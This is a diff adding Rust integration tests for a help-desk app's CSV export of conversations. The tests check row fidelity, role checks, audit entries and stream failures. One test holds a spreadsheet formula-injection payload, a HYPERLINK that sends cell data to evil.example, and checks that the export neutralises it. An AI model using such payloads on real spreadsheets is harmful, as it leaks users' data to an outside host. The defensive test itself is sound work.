@@ -1,0 +1,302 @@
+//! The list as a file: the same rows, harmless to spreadsheets, and never a part for the whole.
+
+use crate::support::lists::{list, rows};
+use crate::support::{Answer, Browser, Setup, World, until};
+use reqwest::{Method, Response};
+use sevendesk::model::{Conversation, Role};
+use sevendesk::server::csv::cell;
+use sevendesk::server::store::audit::{KeptEntry, Wanted};
+use sevendesk::server::store::users::Change;
+use sevendesk::simulator::{Contract, Fault};
+use std::collections::BTreeSet;
+use std::time::Duration;
+
+/// The rows of a file, each by the names of its columns.
+fn table(file: &Answer) -> (Vec<String>, Vec<csv::StringRecord>) {
+    assert_eq!(file.status, 200, "{}", file.text);
+    let mut table = csv::Reader::from_reader(file.text.as_bytes());
+    let names = table.headers().unwrap().iter().map(str::to_owned).collect();
+    (names, table.records().map(|row| row.expect("as many cells as columns")).collect())
+}
+
+fn column<'a>(names: &[String], row: &'a csv::StringRecord, name: &str) -> &'a str {
+    &row[names.iter().position(|known| known == name).unwrap()]
+}
+
+/// All pages of a list.
+async fn all(browser: &Browser, query: &str) -> Vec<Conversation> {
+    let mut found = Vec::new();
+    for number in 1.. {
+        let page = list(browser, &format!("{query}&page={number}&page_size=100")).await;
+        found.extend(rows(&page));
+        if u64::from(page.page) >= page.total_pages {
+            return found;
+        }
+    }
+    unreachable!("there is a last page");
+}
+
+/// The exports of the audit, the latest first.
+async fn exports(world: &World) -> Vec<KeptEntry> {
+    let wanted = Wanted { action: Some("export".to_owned()), ..Wanted::default() };
+    world.state.store.audit(&wanted, 100).await.unwrap()
+}
+
+/// Begins a download and does not read it yet.
+async fn begin(browser: &Browser, path: &str) -> Response {
+    let begun = browser.request(Method::GET, path).send().await.unwrap();
+    assert_eq!(begun.status(), 200);
+    begun
+}
+
+async fn set_up(contract: Contract, queue: bool) -> World {
+    let mut setup = Setup::new(contract);
+    setup.queue = queue;
+    let world = World::set_up(setup).await;
+    if queue { world.filled().await } else { world }
+}
+
+/// A story of many pages, whose calls take their time.
+async fn slow() -> (World, Browser) {
+    let mut setup = Setup::new(Contract::Live);
+    setup.simulator.conversations = 1_500;
+    let world = World::set_up(setup).await;
+    let lea = world.sign_in(Role::Lead).await;
+    list(&lea, "").await;
+    world.simulator.fail_with(Some(Fault::Slow(Duration::from_millis(150))));
+    (world, lea)
+}
+
+#[tokio::test]
+async fn the_file_holds_what_the_list_shows_in_either_contract_with_the_queue_and_without() {
+    for contract in [Contract::Documented, Contract::Live] {
+        for queue in [false, true] {
+            let world = set_up(contract, queue).await;
+            let lea = world.sign_in(Role::Lead).await;
+            let agent = world.simulator.agents()[0].0.clone();
+            for query in [
+                String::new(),
+                "status=closed".to_owned(),
+                "status=open&channel=whatsapp".to_owned(),
+                "needs_reply=true".to_owned(),
+                format!("assigned_to={agent}"),
+            ] {
+                let listed = all(&lea, &query).await;
+                let file = lea.get(&format!("/conversations.csv?{query}")).await;
+
+                let (names, written) = table(&file);
+                let about = format!("{contract:?}, queue {queue}, {query}");
+                let ids = |row: &csv::StringRecord| column(&names, row, "id").to_owned();
+                let ids: Vec<String> = written.iter().map(ids).collect();
+                let expected: Vec<String> = listed.iter().map(|one| one.id.to_string()).collect();
+                assert_eq!(ids, expected, "{about}");
+                for (row, one) in written.iter().zip(&listed) {
+                    let assignee = one.assignee.as_ref().map_or("", |agent| agent.id.as_str());
+                    assert_eq!(column(&names, row, "assignee id"), assignee, "{about}");
+                    assert_eq!(column(&names, row, "channel"), one.channel.as_str(), "{about}");
+                    let created = one.created_at.unwrap().iso();
+                    assert_eq!(column(&names, row, "created"), created, "{about}");
+                }
+                let last = exports(&world).await.remove(0);
+                let result = format!("done, {} rows", listed.len());
+                assert_eq!(last.result, Some(result), "{about}");
+                let canonical = query.replace('?', "");
+                assert_eq!(last.details, Some(format!("conversations: {canonical}")), "{about}");
+            }
+        }
+    }
+}
+
+#[tokio::test]
+async fn from_the_queue_a_file_costs_no_call() {
+    let world = set_up(Contract::Live, true).await;
+    let lea = world.sign_in(Role::Lead).await;
+    list(&lea, "").await;
+    world.simulator.fail_with(Some(Fault::Status(503)));
+
+    let file = lea.get("/conversations.csv?waiting_over=60&sort=-waiting&page=3").await;
+
+    let (names, written) = table(&file);
+    let since: Vec<&str> = written.iter().map(|row| column(&names, row, "waiting since")).collect();
+    assert!(since.len() > 5 && since.is_sorted_by(|one, other| one >= other), "{since:?}");
+}
+
+#[tokio::test]
+async fn a_contact_whose_name_is_a_formula_is_a_text_in_the_file() {
+    let world = World::start(Contract::Live).await;
+    let name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\"),\r\nnext";
+    let id = world.simulator.arrives(&serde_json::json!({ "name": name, "phone": "+1202555" }));
+    let lea = world.sign_in(Role::Lead).await;
+
+    let file = lea.get("/conversations.csv").await;
+
+    assert!(file.text.starts_with('\u{feff}') && file.text.ends_with("\r\n"));
+    let (names, written) = table(&file);
+    let row = written.iter().find(|row| column(&names, row, "id") == id).unwrap();
+    assert_eq!(column(&names, row, "contact"), format!("'{name}"));
+    assert_eq!(column(&names, row, "phone"), "'+1202555");
+    let harmless = |text: &str| cell(text) == text;
+    assert!(written.iter().flatten().all(harmless), "made safe once, it stays as it is");
+}
+
+#[test]
+fn what_begins_a_formula_gets_an_apostrophe_and_nothing_else_does() {
+    for text in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "  =1", "\u{a0}=1", "＝1"] {
+        assert_eq!(cell(text), format!("'{text}"));
+    }
+    for text in ["", "Ada", "a=1", "1-1", "2026-11-22T10:31:05Z", "'=1", " Ada"] {
+        assert_eq!(cell(text), text);
+    }
+}
+
+#[tokio::test]
+async fn only_leads_and_admins_take_the_list_away_and_who_else_tries_is_written_down() {
+    let world = World::start(Contract::Live).await;
+    let vera = world.sign_in(Role::Viewer).await;
+    world.simulator.forget_calls();
+
+    let refused = vera.get("/conversations.csv?status=open").await;
+
+    assert_eq!(refused.status, 403);
+    assert!(refused.text.contains("this takes lead"), "{}", refused.text);
+    assert_eq!(world.simulator.calls(), []);
+    let all = world.state.store.audit(&Wanted::default(), 1).await.unwrap();
+    assert_eq!(all[0].details.as_deref(), Some("export: lead needed, viewer held"));
+    assert!(!vera.get("/conversations").await.text.contains("conversations.csv"));
+    let lea = world.sign_in(Role::Lead).await;
+    let page = lea.get("/conversations?status=open&page=2").await.text;
+    assert!(page.contains("href=\"/conversations.csv?status=open\""), "{page}");
+    let stranger = world.stranger().get("/conversations.csv?status=open").await;
+    let form = "/sign-in?next=%2Fconversations%3Fstatus%3Dopen";
+    assert_eq!((stranger.status, stranger.location()), (303, Some(form)));
+}
+
+#[tokio::test]
+async fn values_that_make_no_sense_are_refused_before_anything_is_asked() {
+    let world = World::start(Contract::Live).await;
+    let lea = world.sign_in(Role::Lead).await;
+    list(&lea, "").await;
+    world.simulator.forget_calls();
+    for query in ["status=sleeping", "channel=pigeon", "assigned_to=..%2F", "status=pending"] {
+        let refused = lea.get(&format!("/conversations.csv?{query}")).await;
+        assert_eq!(refused.status, 400, "{query}");
+        assert!(refused.text.contains("is not a possible value"), "{}", refused.text);
+    }
+    assert_eq!(world.simulator.calls(), []);
+    assert_eq!(exports(&world).await, []);
+    // What only the queue can tell is refused where there is none.
+    assert_eq!(lea.get("/conversations.csv?waiting_over=5").await.status, 400);
+}
+
+#[tokio::test]
+async fn a_file_that_breaks_off_does_not_look_whole() {
+    let (world, lea) = slow().await;
+    let mut begun = begin(&lea, "/conversations.csv").await;
+    // The mark of the encoding, then the first page.
+    while !begun.chunk().await.unwrap().unwrap().starts_with(b"id,") {}
+    let result = exports(&world).await.remove(0).result;
+    assert_eq!(result, None, "it stands in the audit while it is read");
+    world.simulator.fail_with(Some(Fault::Status(403)));
+
+    let rest = loop {
+        match begun.chunk().await {
+            Ok(Some(_)) => {}
+            end => break end,
+        }
+    };
+
+    assert!(rest.is_err(), "the browser is told that it is not all: {rest:?}");
+    let result = exports(&world).await.remove(0).result.unwrap();
+    assert!(result.starts_with("failed: The API token may not do this, after "), "{result}");
+    assert!(result.ends_with("00 rows"), "{result}");
+}
+
+#[tokio::test]
+async fn where_the_first_page_cannot_be_read_there_is_no_file_but_a_sentence() {
+    let world = World::start(Contract::Live).await;
+    let lea = world.sign_in(Role::Lead).await;
+    world.simulator.fail_with(Some(Fault::Status(403)));
+
+    let refused = lea.get("/conversations.csv").await;
+
+    assert_eq!(refused.status, 502);
+    assert!(refused.text.starts_with("The API token may not do this."), "{}", refused.text);
+    let result = exports(&world).await.remove(0).result;
+    assert_eq!(result.as_deref(), Some("failed: The API token may not do this"));
+}
+
+#[tokio::test]
+async fn a_browser_that_goes_away_ends_the_reading() {
+    let (world, lea) = slow().await;
+    let mut begun = begin(&lea, "/conversations.csv").await;
+    begun.chunk().await.unwrap();
+    drop(begun);
+
+    let result = until(async || exports(&world).await.remove(0).result).await;
+
+    assert!(result.starts_with("failed: the browser went away, after "), "{result}");
+    assert!(world.simulator.calls().len() < 15, "not all pages were read for nobody");
+}
+
+#[tokio::test]
+async fn who_is_shut_out_meanwhile_gets_no_more_of_it() {
+    let (world, lea) = slow().await;
+    let mut begun = begin(&lea, "/conversations.csv").await;
+    begun.chunk().await.unwrap();
+    world.state.store.change_user("Lea Hartmann", Change::Disable).await.unwrap();
+
+    while let Ok(Some(_)) = begun.chunk().await {}
+
+    let result = until(async || exports(&world).await.remove(0).result).await;
+    assert!(result.starts_with("failed: You are signed out, after "), "{result}");
+}
+
+#[tokio::test]
+async fn what_is_too_much_for_one_file_is_refused_with_the_number() {
+    let mut setup = Setup::new(Contract::Live);
+    setup.simulator.conversations = 30_001;
+    let world = World::set_up(setup).await;
+    let lea = world.sign_in(Role::Lead).await;
+
+    let refused = lea.get("/conversations.csv").await;
+
+    assert_eq!(refused.status, 400);
+    assert!(refused.text.starts_with("30001 conversations match; a file holds at most 30000."));
+    let result = exports(&world).await.remove(0).result;
+    assert_eq!(result.as_deref(), Some("failed: 30001 conversations are too many"));
+}
+
+#[tokio::test]
+async fn a_conversation_that_moves_between_two_pages_stands_in_the_file_once() {
+    let (world, lea) = slow().await;
+    let ids: Vec<String> = all(&lea, "").await.iter().map(|one| one.id.to_string()).collect();
+    let mut begun = begin(&lea, "/conversations.csv").await;
+    let mut text = Vec::from(begun.chunk().await.unwrap().unwrap());
+    for id in ids.iter().rev().take(40) {
+        world.simulator.customer_writes(id);
+    }
+    while let Some(more) = begun.chunk().await.unwrap() {
+        text.extend_from_slice(&more);
+    }
+
+    let mut table = csv::Reader::from_reader(text.as_slice());
+    let written: Vec<String> = table.records().map(|row| row.unwrap()[0].to_owned()).collect();
+    let unique: BTreeSet<&String> = written.iter().collect();
+    assert_eq!(unique.len(), written.len());
+    assert!(written.len() >= ids.len() - 40, "{} of {}", written.len(), ids.len());
+}
+
+#[tokio::test]
+async fn a_row_that_cannot_be_read_is_a_line_with_its_id() {
+    let world = World::start(Contract::Live).await;
+    let lea = world.sign_in(Role::Lead).await;
+    let broken = rows(&list(&lea, "status=closed").await).remove(3).id.to_string();
+    world.simulator.break_row(&broken);
+
+    let (names, written) = table(&lea.get("/conversations.csv?status=closed").await);
+
+    let row = written.iter().find(|row| column(&names, row, "id") == broken).unwrap();
+    assert_eq!(column(&names, row, "status"), "could not be read");
+    let result = exports(&world).await.remove(0).result.unwrap();
+    assert!(result.ends_with(" rows, 1 of them could not be read"), "{result}");
+}
